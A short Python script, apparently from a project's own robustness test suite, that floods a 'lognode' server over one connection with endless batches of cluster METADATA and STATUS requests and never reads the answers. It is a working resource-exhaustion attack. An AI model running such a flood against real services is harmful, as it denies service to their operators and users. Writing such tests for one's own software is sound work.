"""Ask for the metadata of the whole cluster and for its status in a loop and read no answer."""

import argparse

from attack import Line, arguments, main

from lognode.client.protocol import frame
from lognode.client.protocol.cluster import METADATA, STATUS

_PAIRS_A_WRITE = 500


async def attack(line: Line, options: argparse.Namespace) -> None:
    """One connection, until the program ends."""
    first = 1
    while True:
        pairs = (
            frame.encode(n, METADATA.number, {"log": None}) + frame.encode(n + 1, STATUS.number, {})
            for n in range(first, first + 2 * _PAIRS_A_WRITE, 2)
        )
        first += 2 * _PAIRS_A_WRITE
        await line.write(b"".join(pairs))


if __name__ == "__main__":
    main(attack, arguments())
